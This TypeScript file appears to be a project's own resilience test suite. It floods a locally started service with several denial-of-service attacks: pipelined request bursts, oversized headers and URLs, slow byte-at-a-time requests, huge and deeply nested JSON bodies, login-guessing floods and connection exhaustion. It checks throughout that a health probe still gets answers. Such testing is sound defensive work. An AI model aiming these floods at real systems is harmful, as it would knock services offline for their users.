import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { registerUser } from '../../e2e/api-user.ts';
import { casesAt, type AttackReport, type AttackSuite } from '../suite.ts';
import { withService } from '../with-service.ts';

/** Without an answer within this time, the service counts as silenced. */
const SILENCED_AFTER_MS = 5000;
const PROBE_EVERY_MS = 50;
const SOCKETS = 20;
const PIPELINED = 3000;
const PATHS = ['/api/docs/yaml', '/api/openapi.json', '/readyz', '/metrics', '/', '/api/v1/products'];
const MAX_FLOOD_MS = 20_000;

/** What anonymous callers send to make the process answer nobody else. */
export const anonymousFlood: AttackSuite = {
  name: 'anonymous-flood',
  promise: 'no anonymous caller keeps the service from answering others',
  run: (size) =>
    withService({}, async ({ origin }) => {
      const port = Number(new URL(origin).port);
      const attacks: Record<string, () => Promise<number>> = {
        pipelined: () => floodPipelined(port, casesAt(size, PIPELINED)),
        headers: () => floodHeaders(port, casesAt(size, 500)),
        slow: () => dribble(port, casesAt(size, 300), Math.min(size.seconds, 15)),
        bodies: () => floodBodies(port, casesAt(size, 60)),
        passwords: () => floodPasswords(port, casesAt(size, 600)),
        connections: () => floodConnections(port, casesAt(size, 2000)),
      };
      const results = [];
      for (const [name, attack] of Object.entries(attacks))
        results.push({ name, ...(await probeDuring(port, attack)) });
      const welcome = await registerUser(origin, 'after@example.com').then(
        () => [],
        (error: Error) => [`nobody can sign up after the attacks: ${error.message}`],
      );
      return report(results, welcome);
    }),
};

interface FloodResult {
  name: string;
  sent: number;
  probes: number;
  longestProbeMs: number;
  silenced: boolean;
}

function report(results: readonly FloodResult[], failures: readonly string[]): AttackReport {
  const longest = results.map(({ name, longestProbeMs }) => [`${name}LongestProbeMs`, longestProbeMs]);
  return {
    attempts: results.reduce((sum, { sent }) => sum + sent, 0),
    failures: [
      ...results.filter(({ silenced }) => silenced).map(({ name }) => `${name} silenced the service`),
      ...failures,
    ],
    figures: {
      probes: results.reduce((sum, { probes }) => sum + probes, 0),
      ...(Object.fromEntries(longest) as Record<string, number>),
    },
  };
}

/** Probes the service from another address until the attack has ended. */
async function probeDuring(port: number, attack: () => Promise<number>): Promise<Omit<FloodResult, 'name'>> {
  const running = attack();
  const result = { probes: 0, longestProbeMs: 0, silenced: false };
  const over = new AbortController();
  void running.finally(() => over.abort()).catch(() => undefined);
  while (!over.signal.aborted || result.probes === 0) {
    const startedAt = performance.now();
    const answered = await probe(port);
    result.probes++;
    result.longestProbeMs = Math.max(result.longestProbeMs, Math.round(performance.now() - startedAt));
    if (!answered) result.silenced = true;
    await sleep(PROBE_EVERY_MS);
  }
  return { ...result, sent: await running };
}

function probe(port: number): Promise<boolean> {
  const options = { host: '127.0.0.1', port, path: '/healthz', agent: false, timeout: SILENCED_AFTER_MS };
  return new Promise((resolve) => {
    const probing = request(options, (response) => {
      response.resume().once('end', () => resolve(response.statusCode === 200));
    });
    probing.once('error', () => resolve(false)).once('timeout', () => probing.destroy());
    probing.once('close', () => resolve(false)).end();
  });
}

/** Connects from an address of the attackers: 127.0.0.2 and following, so that the prober has its own limit. */
async function open(port: number, attacker: number): Promise<Socket | null> {
  const localAddress = `127.0.0.${2 + (attacker % 200)}`;
  const socket = connect({ host: '127.0.0.1', port, localAddress });
  socket.on('error', () => undefined).resume();
  return new Promise((resolve) => {
    socket.once('connect', () => resolve(socket)).once('close', () => resolve(null));
  });
}

/** Resolves at once if it is closed already. */
function closing(socket: Socket): Promise<void> {
  return new Promise((resolve) => (socket.closed ? resolve() : socket.once('close', () => resolve())));
}

/** Resolves when the sockets are closed, at the latest after MAX_FLOOD_MS; then closes them. */
async function untilClosed(sockets: readonly (Socket | null)[]): Promise<void> {
  const open = sockets.filter((socket) => socket !== null && !socket.destroyed);
  const stop = new AbortController();
  await Promise.race([
    Promise.all(open.map((socket) => socket && closing(socket))),
    sleep(MAX_FLOOD_MS, undefined, { signal: stop.signal }).catch(() => undefined),
  ]);
  stop.abort();
  for (const socket of open) socket?.destroy();
}

async function floodPipelined(port: number, each: number): Promise<number> {
  let sent = 0;
  for (const path of PATHS) {
    const sockets = await Promise.all(Array.from({ length: SOCKETS }, (_, n) => open(port, n)));
    const burst = `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(each);
    for (const socket of sockets)
      socket?.write(`${burst}GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
    await untilClosed(sockets);
    sent += SOCKETS * (each + 1);
  }
  return sent;
}

async function floodHeaders(port: number, count: number): Promise<number> {
  const many = Array.from({ length: 1500 }, (_, n) => `a${n}: b\r\n`).join('');
  const heads = [
    `GET / HTTP/1.1\r\nHost: localhost\r\n${many.slice(0, 15_000)}`,
    `GET / HTTP/1.1\r\nHost: localhost\r\n${many.repeat(50)}\r\n`,
    `GET /${'a'.repeat(200_000)} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: localhost\r\nCookie: ${'a=b; '.repeat(2500)}\r\nConnection: close\r\n\r\n`,
  ];
  return inGroups(count, async (n) => {
    const socket = await open(port, n);
    socket?.end(heads[n % heads.length] ?? '');
    return socket;
  });
}

/** Sends requests a byte at a time, on as many connections as asked, for some seconds. */
async function dribble(port: number, count: number, seconds: number): Promise<number> {
  const text = `POST /api/v1/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{"email"`;
  const sockets = await Promise.all(Array.from({ length: count }, (_, n) => open(port, n)));
  for (let at = 0; at < seconds * 5; at++) {
    for (const [n, socket] of sockets.entries()) socket?.write(text[(at + n) % text.length] ?? ' ');
    await sleep(200);
  }
  for (const socket of sockets) socket?.destroy();
  return count;
}

/** The head of an attempt to sign in with a body of this length. */
function head(length: number): string {
  return `POST /api/v1/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: ${length}\r\n\r\n`;
}

async function floodBodies(port: number, count: number): Promise<number> {
  const nested = '['.repeat(900_000);
  const bodies = [
    head(1_000_000_000) + 'x'.repeat(3_000_000),
    head(nested.length) + nested,
    head(900_002) + `"${'\\u0000'.repeat(150_000)}"`,
    head(900_000) + `{"email":${'1'.repeat(899_990)}}`,
  ];
  return inGroups(count, async (n) => {
    const socket = await open(port, n);
    socket?.write(bodies[n % bodies.length] ?? '');
    return socket;
  });
}

async function floodPasswords(port: number, count: number): Promise<number> {
  return inGroups(count, async (n) => {
    const socket = await open(port, n);
    const body = JSON.stringify({ email: `guess${n}@example.com`, password: 'wrong horse battery' });
    socket?.write(head(body.length) + body);
    return socket;
  });
}

async function floodConnections(port: number, count: number): Promise<number> {
  const sockets = await Promise.all(Array.from({ length: count }, () => open(port, 0)));
  await sleep(500);
  for (const socket of sockets) socket?.destroy();
  return count;
}

/** Opens `count` connections, a few at a time, and waits until each is closed. */
async function inGroups(count: number, start: (n: number) => Promise<Socket | null>): Promise<number> {
  for (let from = 0; from < count; from += SOCKETS) {
    const group = Array.from({ length: Math.min(SOCKETS, count - from) }, (_, n) => start(from + n));
    await untilClosed(await Promise.all(group));
  }
  return count;
}
